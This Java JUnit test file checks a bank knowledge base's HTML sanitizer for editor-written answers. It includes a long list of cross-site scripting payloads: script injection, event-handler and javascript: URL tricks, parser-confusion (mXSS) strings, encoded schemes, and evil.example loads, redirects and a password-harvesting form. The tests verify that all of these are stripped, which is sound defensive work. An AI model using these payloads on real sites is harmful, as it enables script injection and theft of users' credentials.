package io.okienko.kb.content;

import static org.assertj.core.api.Assertions.assertThat;

import io.okienko.bot.language.Language;
import java.util.List;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What is left of an editor's HTML. */
class AnswerSanitizerTest {
  private final AnswerSanitizer sanitizer =
      new AnswerSanitizer(new ContentSettings(Language.BUILT_IN, List.of("bank.example")));

  static final List<String> PLAIN_ANSWERS =
      List.of(
          "<p>Your card is blocked at once.</p>",
          "<p>First line<br>second line</p>",
          "<ol><li>Open the app.</li><li>Tap <strong>Cards</strong>.</li></ol>",
          "<ul><li>One<ul><li>Inner</li></ul></li><li>Two</li></ul>",
          "<h3>Fees</h3><p>It costs <em>20 zł</em>.</p><h4>Abroad</h4><p>Nothing.</p>",
          "<blockquote><p>Said before.</p></blockquote>",
          "<p><a href=\"/bank/en/cards\">Cards: block and replace</a></p>",
          "<p><a href=\"tel:+48225550111\">+48 22 555 01 11</a></p>",
          "<p><a href=\"mailto:help@aldera.example\">help@aldera.example</a></p>",
          "<p><a href=\"https://bank.example/fees?a=1&amp;b=2\" rel=\"noopener\">Our fees</a></p>",
          "<table><caption>Fees</caption><thead><tr><th scope=\"col\">What</th>"
              + "<th scope=\"col\">How much</th></tr></thead><tbody><tr><th scope=\"row\">Card</th>"
              + "<td></td></tr></tbody></table>",
          "<p>5 &lt; 7 &amp; 7 &gt; 5, \"quoted\" 'twice' + @ = `{{x}}`</p>",
          "<p>Zażółć gęślą jaźń · Árvíztűrő · Съешь ещё · 银行卡 · 💳</p>");

  @ParameterizedTest
  @FieldSource("PLAIN_ANSWERS")
  void a_plain_answer_stays_as_it_is(String html) {
    SanitizedAnswer answer = sanitizer.sanitize(html);

    assertThat(answer.html()).isEqualTo(html);
    assertThat(answer.removed()).isEmpty();
    assertThat(answer.refusedLinks()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "<p><b>Now</b> <i>then</i></p>          | <p><strong>Now</strong> <em>then</em></p>",
        "<h1>A</h1><h2>B</h2><h6>C</h6>         | <h3>A</h3><h3>B</h3><h4>C</h4>",
        "<div>One</div><div>Two</div>           | <p>One</p><p>Two</p>",
        "<div><p>One</p></div>                  | <p>One</p>",
        "<p>One<p>Two                           | <p>One</p><p>Two</p>",
        "<p>a</p><p></p><p><strong></strong></p>| <p>a</p>",
        "<P>Upper</P>                           | <p>Upper</p>",
        "<p>a<br/>b<br></br>c</p>               | <p>a<br>b<br>c</p>",
        "<p>1&nbsp;000 z&#322;</p>              | '<p>1\u00A0000 zł</p>'",
        "<a href=https://BANK.example>Bank</a>  | '<a href=\"https://bank.example\""
            + " rel=\"noopener\">Bank</a>'",
      })
  void other_spellings_of_the_same_are_brought_into_one(String written, String kept) {
    assertThat(sanitizer.sanitize(written).html()).isEqualTo(kept);
  }

  @Test
  void the_editor_is_told_what_was_removed() {
    SanitizedAnswer answer =
        sanitizer.sanitize(
            "<p style=\"color:red\" onclick=\"steal()\">Hello <img src=\"/a.png\"> you</p>"
                + "<script>alert(1)</script>");

    assertThat(answer.html()).isEqualTo("<p>Hello  you</p>");
    assertThat(answer.removed())
        .containsExactly("<img>", "<script>", "onclick of <p>", "style of <p>");
  }

  @Test
  void a_refused_link_is_named_and_its_words_stay() {
    SanitizedAnswer answer =
        sanitizer.sanitize("<p><a href=\"http://evil.example\">Read more about cards</a></p>");

    assertThat(answer.html()).isEqualTo("<p>Read more about cards</p>");
    assertThat(answer.refusedLinks())
        .singleElement()
        .asString()
        .contains("http://evil.example")
        .contains("not allowed");
  }

  @Test
  void line_ends_accents_and_invisible_characters_take_one_form() {
    assertThat(sanitizer.sanitize("<p>a\r\nb\rc\u0000\u0008\u202Ed\uD800\uFFFEe\u0301</p>").html())
        .isEqualTo("<p>a\nb\ncd\u00E9</p>");
  }

  static final List<String> ATTACKS =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<script/src=data:,alert(1)>",
          "<script\n>alert(1)</script\n>",
          "<<script>alert(1);//<</script>",
          "<script>/*</p>*/alert(1)",
          "<img src=x onerror=alert(1)>",
          "<img src=`x` onerror=alert(1)//",
          "<img \"\"\"><script>alert(1)</script>\">",
          "<IMG SRC=javascript:alert(1)>",
          "<img src=x:x onerror=\"alert(1)\" onload=alert(1)",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
          "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">",
          "<svg><style><img src=x onerror=alert(1)></style></svg>",
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
              + " onerror=alert(1)&gt;\">",
          "<math href=\"javascript:alert(1)\">x</math>",
          "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<template><script>alert(1)</script></template>",
          "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
          "<title><a href=\"</title><img src=x onerror=alert(1)>\">x</a></title>",
          "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
          "<plaintext><script>alert(1)</script>",
          "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
          "<iframe src=\"javascript:alert(1)\"></iframe>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
          "<embed src=\"https://evil.example/x.swf\">",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
          "<base href=\"https://evil.example/\">",
          "<style>@import 'https://evil.example/x.css';</style>",
          "<style><!--</style><script>alert(1)//--></script>",
          "<p style=\"background:url(javascript:alert(1))\">x</p>",
          "<p style=\"x:expression(alert(1))\">x</p>",
          "<p onmouseover=alert(1)>x</p>",
          "<p/onmouseover=alert(1)>x</p>",
          "<p\nonmouseover\n=\nalert(1)>x</p>",
          "<p id=x name=y class=z data-x=1 contenteditable autofocus onfocus=alert(1)>x</p>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
          "<a href=\" &#14; javascript:alert(1)\">x</a>",
          "<a href=\"java&#10;script:alert(1)\">x</a>",
          "<a href=\"java&Tab;script:alert(1)\">x</a>",
          "<a href=\"javascript&colon;alert(1)\">x</a>",
          "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
          "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
          "<a href=\"&#0000106avascript:alert(1)\">x</a>",
          "<a href=javascript&#58;alert(1)>x</a>",
          "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
          "<a href=\"vbscript:msgbox(1)\">x</a>",
          "<a href=\"//evil.example\">x</a>",
          "<a href=\"/\\evil.example\">x</a>",
          "<a href=\"https://bank.example@evil.example\">x</a>",
          "<a href=\"https://b\u0430nk.example\">x</a>",
          "<a href=\"/ok\" href=\"javascript:alert(1)\">x</a>",
          "<a href=\"/ok\" onclick=alert(1) target=_blank ping=https://evil.example>x</a>",
          "<a href=\"/ok\" rel=\"opener\" target=\"_top\">x</a>",
          "<a href=\"/ok&quot; onmouseover=&quot;alert(1)\">x</a>",
          "<a href=\"/ok' onmouseover='alert(1)\">x</a>",
          "<a href=/ok/onmouseover=alert(1)//>x</a>",
          "<a href=\"https://bank.example/\" rel=\"noopener&quot; onclick=&quot;alert(1)\">x</a>",
          "<th scope=\"col&quot; onclick=&quot;alert(1)\">x</th>",
          "<th scope=\"javascript:alert(1)\">x</th>",
          "<td background=\"javascript:alert(1)\">x</td>",
          "<table background=\"https://evil.example/x.png\"><tr><td>x</td></tr></table>",
          "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
          "<button formaction=javascript:alert(1)>x</button>",
          "<isindex type=image src=1 onerror=alert(1)>",
          "<input onfocus=alert(1) autofocus>",
          "<select onfocus=alert(1)><option>x</select>",
          "<details open ontoggle=alert(1)>x</details>",
          "<video><source onerror=alert(1)></video>",
          "<audio src=x onerror=alert(1)>",
          "<marquee onstart=alert(1)>x</marquee>",
          "<body onload=alert(1)>x</body>",
          "<html><head><script>alert(1)</script></head></html>",
          "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
          "<dialog open onclose=alert(1)>x</dialog>",
          "<x onclick=alert(1)>x</x>",
          "<custom-element onclick=alert(1)>x</custom-element>",
          "<okienko-chat server=\"https://evil.example\"></okienko-chat>",
          "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
          "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
          "<!-- --!><script>alert(1)</script>",
          "<!--><script>alert(1)</script>-->",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<!DOCTYPE x [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
          "</p><script>alert(1)</script>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&amp;lt;script&amp;gt;alert(1)",
          "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
          "<\u0000script>alert(1)</script>",
          "<p\u0000onclick=alert(1)>x</p>",
          "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "<a href=\"/ok\"><a href=\"javascript:alert(1)\">x</a></a>",
          "<p>".repeat(5000) + "<script>alert(1)</script>",
          "<ul><li>".repeat(600) + "<img src=x onerror=alert(1)>",
          "<strong><em>".repeat(600) + "<svg/onload=alert(1)>");

  private static final Set<String> ELEMENTS = AnswerElements.ALLOWED;

  @ParameterizedTest
  @FieldSource("ATTACKS")
  void nothing_that_runs_or_loads_is_left_of_an_attack(String attack) {
    String html = sanitizer.sanitize("<p>before</p>" + attack).html();

    for (Element element : Jsoup.parseBodyFragment(html).body().select("*")) {
      if (!element.normalName().equals("body")) {
        assertThat(ELEMENTS).contains(element.normalName());
        element.attributes().forEach(attribute -> assertSafe(element, attribute));
      }
    }
    assertThat(html).startsWith("<p>before</p>").doesNotContain("\u0000", "<!", "<?");
  }

  @ParameterizedTest
  @FieldSource("ATTACKS")
  void sanitising_again_changes_nothing(String attack) {
    SanitizedAnswer once = sanitizer.sanitize(attack);
    SanitizedAnswer twice = sanitizer.sanitize(once.html());

    assertThat(twice.html()).isEqualTo(once.html());
    assertThat(twice.removed()).isEmpty();
    assertThat(twice.refusedLinks()).isEmpty();
  }

  private static void assertSafe(Element element, Attribute attribute) {
    switch (element.normalName() + " " + attribute.getKey()) {
      case "a href" ->
          assertThat(attribute.getValue()).matches("/ok[^\"<>\\\\]*|https://bank\\.example/?");
      case "a rel" -> assertThat(attribute.getValue()).isEqualTo("noopener");
      case "th scope" -> assertThat(attribute.getValue()).isIn("row", "col");
      default -> throw new AssertionError("attribute " + attribute + " on " + element.normalName());
    }
  }

  /** Images have no place in answers, so none can be without its words. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<img src='https://bank.example/card.png'>",
        "<img src='https://bank.example/card.png' alt=''>",
        "<picture><img src='/card.png' alt='A card'></picture>",
        "<svg><circle r='9'/></svg>",
        "<input type='image' src='/card.png'>",
        "<p style='background-image:url(/card.png)'></p>",
      })
  void s01_no_image_stays_and_the_editor_is_told(String image) {
    SanitizedAnswer answer = sanitizer.sanitize("<p>Press Cards.</p>" + image);
    assertThat(answer.html()).isEqualTo("<p>Press Cards.</p>");
    assertThat(answer.removed()).isNotEmpty();
  }

  /** Nor have audio and video, which would need captions, a transcript and sign language. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<video src='/a.mp4'></video>",
        "<video><source src='/a.mp4'><track src='/a.vtt'></video>",
        "<audio src='/a.mp3' autoplay></audio>",
        "<iframe src='https://bank.example/video'></iframe>",
        "<object data='/a.mp4'></object>",
        "<embed src='/a.mp3'>",
        "<bgsound src='/a.mp3'>",
      })
  void m01_no_audio_or_video_stays_and_the_editor_is_told(String media) {
    SanitizedAnswer answer = sanitizer.sanitize("<p>Press Cards.</p>" + media);
    assertThat(answer.html()).isEqualTo("<p>Press Cards.</p>");
    assertThat(answer.removed()).isNotEmpty();
  }
}
